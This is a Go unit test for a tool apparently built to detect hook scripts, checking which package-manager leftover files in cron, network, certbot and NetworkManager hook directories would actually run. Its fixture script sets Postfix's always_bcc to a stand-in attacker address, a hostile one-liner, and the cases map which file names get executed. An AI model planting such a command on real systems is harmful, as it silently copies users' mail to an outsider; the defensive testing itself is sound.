package surroundings

import (
	"testing"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/snapshot"
)

// TestLeftovers: what package managers put beside a script is run in some directories
// of scripts, and in others not.
func TestLeftovers(t *testing.T) {
	const script = "#!/bin/sh\npostconf -e always_bcc=x@evil.example.net\n"
	for _, tc := range []struct {
		name   string
		path   waxseal.Path
		debian bool
		hook   bool // there is a hook
		active bool
	}{
		{"half of an unpacking", "/etc/network/if-up.d/postfix.dpkg-new", true, false, false},
		{"what rpm put aside", "/etc/cron.daily/mail.rpmsave", false, false, false},
		{"a dot that Debian's run-parts passes over", "/etc/cron.daily/mail.sh", true, true, false},
		{"a dot elsewhere", "/etc/cron.daily/0mail.cron", false, true, true},
		{"a name like any", "/etc/cron.daily/mail-report", true, true, true},
		{"certbot runs what dpkg left", "/etc/letsencrypt/renewal-hooks/deploy/mail.dpkg-old", true, true, true},
		{"NetworkManager does not", "/etc/NetworkManager/dispatcher.d/mail.dpkg-dist", true, false, false},
		{"an ending of no package manager", "/etc/NetworkManager/dispatcher.d/mail.dpkg-evil", true, true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			objects := map[waxseal.Path]snapshot.Object{tc.path: {File: waxseal.File{Type: waxseal.Regular, Mode: 0o755}, Content: []byte(script)}}
			if tc.debian {
				objects["/var/lib/dpkg/status"] = snapshot.Object{File: waxseal.File{Type: waxseal.Regular, Mode: 0o644}}
			}
			got := Read(snapshot.New(objects), mask.New(make([]byte, 32)), nil)
			hook := waxseal.Hook{}
			for _, h := range got.Hooks {
				if h.Source.Path == tc.path {
					hook = h
				}
			}
			if (hook.ID != "") != tc.hook || hook.Active != tc.active {
				t.Errorf("hook %q, active %v", hook.ID, hook.Active)
			}
		})
	}
}
